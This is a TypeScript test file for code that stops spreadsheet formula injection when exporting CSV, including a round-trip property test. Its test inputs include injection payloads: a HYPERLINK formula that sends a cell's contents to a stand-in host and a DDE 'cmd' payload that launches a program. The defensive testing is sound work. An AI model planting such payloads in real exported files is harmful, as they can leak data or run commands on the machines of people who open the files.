import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { spreadsheetCsv } from './spreadsheet-csv.server.ts';
import { neutraliseSpreadsheetText, restoreSpreadsheetText } from './spreadsheet.ts';

describe('spreadsheet cells', () => {
  it.each([
    ['=HYPERLINK("http://x/?c="&F2,"Ver pedido")', `'=HYPERLINK("http://x/?c="&F2,"Ver pedido")`],
    ['+55 11 98765-4321', "'+55 11 98765-4321"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ["'=1+1", "''=1+1"],
    ['Pastilha de freio', 'Pastilha de freio'],
    ["'aspas no começo", "'aspas no começo"],
    ['-12,50', '-12,50'],
    ['+5', '+5'],
    ['1234.56', '1234.56'],
    ['', ''],
  ])('%j is written as %j', (value, written) => {
    expect(neutraliseSpreadsheetText(value)).toBe(written);
  });

  it('reading back gives every text exactly as it was', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^'*[=+\-@\t\r].*$/)), (text) => {
        expect(restoreSpreadsheetText(neutraliseSpreadsheetText(text))).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it('writes CSV with text neutralised and numbers as numbers', () => {
    const csv = spreadsheetCsv([
      ['nome', 'estoque', 'saldo'],
      ['=1+1', -3, '-12,50'],
      [null, 0, undefined],
    ]);
    expect(parse(csv, { delimiter: ';' })).toEqual([
      ['nome', 'estoque', 'saldo'],
      ["'=1+1", '-3', '-12,50'],
      ['', '0', ''],
    ]);
  });
});
